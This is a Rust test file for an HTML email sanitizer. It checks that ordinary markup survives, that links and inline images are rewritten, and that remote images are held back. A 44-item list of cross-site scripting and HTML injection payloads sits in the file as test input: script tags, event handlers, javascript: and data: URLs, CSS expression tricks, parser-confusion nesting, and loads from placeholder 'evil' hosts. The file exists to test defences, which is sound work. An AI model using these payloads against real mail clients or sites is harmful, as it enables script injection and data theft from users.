// SPDX-License-Identifier: AGPL-3.0-or-later
//! What HTML of mail may and may not do. The attacks are our own collection of the usual kinds.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "helpers of tests")]

use ph_mime::{SanitizeOptions, sanitize_html};
use proptest::prelude::*;

fn clean_with(html: &str, remote_images: bool) -> (String, bool) {
    let cid_url = |id: &str| (id != "missing").then(|| format!("/part?id={id}&x=1"));
    sanitize_html(html, &SanitizeOptions { cid_url: &cid_url, remote_images })
}

fn clean(html: &str) -> String {
    clean_with(html, false).0
}

#[test]
fn ordinary_mail_stays() {
    for html in [
        "<p style=\"color: red\">text</p>",
        "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tbody><tr><td align=\"center\" colspan=\"2\">x</td></tr></tbody></table>",
        "<font face=\"Arial\" size=\"2\">x</font>",
        "<blockquote><pre>a &lt; b</pre></blockquote>",
        "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">",
    ] {
        assert_eq!(clean(html), html);
    }
}

#[test]
fn links() {
    let a = "target=\"_blank\" rel=\"noopener noreferrer\"";
    let got = clean("<a href=\"https://x/?a=1&amp;b=2\" target=\"_top\" rel=\"opener\">x</a>");
    assert!(
        got.contains("href=\"https://x/?a=1&amp;b=2\"")
            && got.contains("target=\"_blank\"")
            && got.contains("rel=\"noopener noreferrer\""),
        "{got}"
    );
    assert!(!got.contains("_top"), "{a} {got}");
    assert!(clean("<a href='mailto:a@b'>x</a><a href=tel:+1>y</a>").matches("href").count() == 2);
    for href in [
        "/relative",
        "//x/y",
        "#top",
        "ftp://x",
        "file:///etc/passwd",
        "about:blank",
        "data:text/html,x",
        "data:image/png;base64,AA",
    ] {
        assert!(!clean(&format!("<a href=\"{href}\">x</a>")).contains("href"), "{href}");
    }
}

#[test]
fn inline_pictures() {
    assert_eq!(clean("<img src=\"CID:a%40b\">"), "<img src=\"/part?id=a@b&amp;x=1\">");
    assert_eq!(clean("<img src=cid:missing alt=x>"), "<img alt=\"x\">");
    assert_eq!(clean("<td background='cid:bg'>"), "", "a cell without a table is dropped by the parser");
    assert_eq!(
        clean("<div style=\"background: url(cid:bg) no-repeat; color: red\">x</div>"),
        "<div style=\"background: url('/part?id=bg&amp;x=1') no-repeat; color: red\">x</div>"
    );
}

#[test]
fn remote_pictures_wait() {
    let html = "<img src=\"https://t/x.gif?a&amp;b\" width=\"1\"><table background=\"http://t/b\"></table>\
        <div style=\"color: red; background-image: url('https://t/c')\">x</div>";
    let (held, remote) = clean_with(html, false);
    assert!(remote);
    assert!(held.contains("<img data-src=\"https://t/x.gif?a&amp;b\" width=\"1\">"), "{held}");
    assert!(held.contains("<table data-background=\"http://t/b\">"), "{held}");
    assert!(held.contains("<div data-background=\"https://t/c\" style=\"color: red\">"), "{held}");
    let (shown, remote) = clean_with(html, true);
    assert!(remote && !shown.contains("data-"));
    assert!(shown.contains("src=\"https://t/x.gif?a&amp;b\"") && shown.contains("url('https://t/c')"), "{shown}");
    assert_eq!(clean_with("<p>none</p>", false), ("<p>none</p>".into(), false));
}

const ATTACKS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://x' OnErRoR='alert(1)'>",
    "<img/src=\"https://x\"/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<table background=\"javascript:alert(1)\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width: expression(alert(1))\">",
    "<div style=\"behavior: url(#default#time2)\">",
    "<div style=\"-moz-binding: url(https://evil/x.xml#a)\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">phish</div>",
    "<div style=\"background:u\\72l('javascript:alert(1)')\">",
    "<style>@import 'https://evil/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<link rel=stylesheet href=https://evil/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil/\">",
    "<iframe src=\"https://evil\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil/x.swf\"></object>",
    "<embed src=\"https://evil/x.swf\">",
    "<form action=\"https://evil\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
];

/// The output as the browser sees it: tags with their attributes, by a strict reader of serialised HTML.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let name_end = rest.find([' ', '>']).expect("a whole tag");
        let name = rest[..name_end].to_string();
        rest = &rest[name_end..];
        let mut attributes = Vec::new();
        while let Some(tail) = rest.strip_prefix(' ') {
            let (attribute, tail) = tail.split_once("=\"").expect("a quoted attribute");
            let (value, tail) = tail.split_once('"').expect("a closed quote");
            attributes.push((attribute.to_string(), value.to_string()));
            rest = tail;
        }
        rest = rest.strip_prefix('>').expect("nothing else in a tag");
        out.push((name, attributes));
    }
    out
}

fn assert_harmless(html: &str, remote_images: bool) {
    let (got, _) = clean_with(html, remote_images);
    let forbidden = [
        "script", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "style", "link", "meta",
        "base", "textarea", "template", "noscript", "xmp", "applet", "frame", "body", "html", "video", "audio",
    ];
    for (name, attributes) in tags(&got) {
        assert!(!forbidden.contains(&name.trim_start_matches('/')), "{html:?} -> {got:?}");
        for (attribute, value) in attributes {
            let value = value.to_ascii_lowercase();
            assert!(
                !attribute.starts_with("on") && attribute != "srcset" && attribute != "class" && attribute != "id",
                "{html:?} -> {got:?}"
            );
            let loads = matches!(attribute.as_str(), "src" | "background" | "href");
            let starts = |list: &[&str]| list.iter().any(|p| value.starts_with(p));
            if attribute == "href" {
                assert!(starts(&["http:", "https:", "mailto:", "tel:", "/part?"]), "{html:?} -> {got:?}");
            } else if loads {
                assert!(
                    starts(&["data:image/", "/part?"]) || (remote_images && starts(&["http:", "https:"])),
                    "{html:?} -> {got:?}"
                );
                assert!(!value.contains("svg"), "{html:?} -> {got:?}");
            }
            if attribute == "style" {
                for word in ["position", "expression", "javascript", "binding", "behavior", "\\", "@"] {
                    assert!(!value.contains(word), "{html:?} -> {got:?}");
                }
                assert!(
                    remote_images || !value.contains("url(http") && !value.contains("url('http"),
                    "{html:?} -> {got:?}"
                );
            }
        }
    }
}

#[test]
fn attacks() {
    for attack in ATTACKS {
        for remote_images in [false, true] {
            assert_harmless(attack, remote_images);
            assert_harmless(&format!("<table><tr><td>{attack}"), remote_images);
        }
    }
}

#[test]
fn bombs_become_text() {
    let deep = format!("{}x", "<div>".repeat(100_000));
    let got = clean(&deep);
    assert_eq!(got, "<pre style=\"white-space: pre-wrap\">x</pre>");
    let attributes: String = (0..100_000).map(|i| format!("a{i}=1 ")).collect();
    assert!(clean(&format!("<p {attributes}>x</p>")).starts_with("<pre"));
    assert!(clean(&"<b id=1><p>".repeat(100_000)).starts_with("<pre"));
    clean(&"<table>".repeat(900));
    clean(&"<".repeat(1_000_000));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn splices_of_attacks(pieces in proptest::collection::vec((0..ATTACKS.len(), any::<u8>(), any::<u8>()), 1..6)) {
        let mut html = String::new();
        for (attack, from, to) in pieces {
            let chars: Vec<char> = ATTACKS[attack].chars().collect();
            let (a, b) = (from as usize % chars.len(), to as usize % chars.len());
            html.extend(&chars[a.min(b)..=a.max(b)]);
        }
        assert_harmless(&html, false);
        assert_harmless(&html, true);
        ph_mime::html_to_text(&html);
    }

    #[test]
    fn any_text(html in "\\PC{0,200}", markup in "[<>/!\\-=\"' a-c&;:()]{0,80}") {
        assert_harmless(&html, false);
        assert_harmless(&markup, true);
        ph_mime::html_to_text(&format!("{html}{markup}"));
    }
}
